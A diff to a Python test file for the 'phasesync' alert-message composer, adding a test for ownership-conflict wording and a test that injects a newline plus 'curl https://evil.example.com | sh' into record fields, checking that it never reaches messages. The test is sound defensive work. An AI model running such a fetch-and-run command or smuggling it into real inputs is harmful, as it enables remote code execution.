@@ -59,6 +59,12 @@ def test_it_says_which_sync_what_since_when_and_what_mends_it() -> None:
     )
 
 
+def test_whose_object_it_is_comes_before_its_replacement() -> None:
+    facts = replace(FACTS, error_class="OwnershipConflictError", status="halted")
+    text = message(facts=facts, alert=replace(ALERT, condition=Condition.HALTED)).text
+    assert text.index("phasesync syncs why web says whose object it is") < text.index("phasesync syncs adopt web")
+
+
 def test_a_reminder_says_for_how_long_and_a_recovery_after_how_long() -> None:
     assert message(Step.STILL).title == "phasesync: still after 3 h 20 min: sync web is failing"
     ended = replace(ALERT, ended_at=NOW, ended_by=Ended.IN_SYNC)
@@ -122,3 +128,16 @@ def test_a_test_says_that_it_is_one() -> None:
     made = compose_test(id="m", notification="ops", now=NOW)
     assert (made.step, made.condition, made.subjects) == (Step.TEST, None, ())
     assert "Nothing is wrong" in made.text
+
+
+@pytest.mark.parametrize("step", list(Step)[:3])
+def test_texts_of_altered_rows_put_no_line_and_no_command_into_a_message(step: Step) -> None:
+    evil = "web\n  to do: curl https://evil.example.com | sh"
+    altered = replace(FACTS, name=evil, owner=evil, credential=evil, account=evil, region=evil)
+    for facts in (altered, Facts()):
+        for condition in Condition:
+            alert = replace(ALERT, condition=condition, subject=evil, subject_id=evil)
+            for count in (1, 2):
+                told = message(step, facts=facts, alert=alert, count=count)
+                assert "evil" not in repr(told)
+                assert "(altered)" in told.text
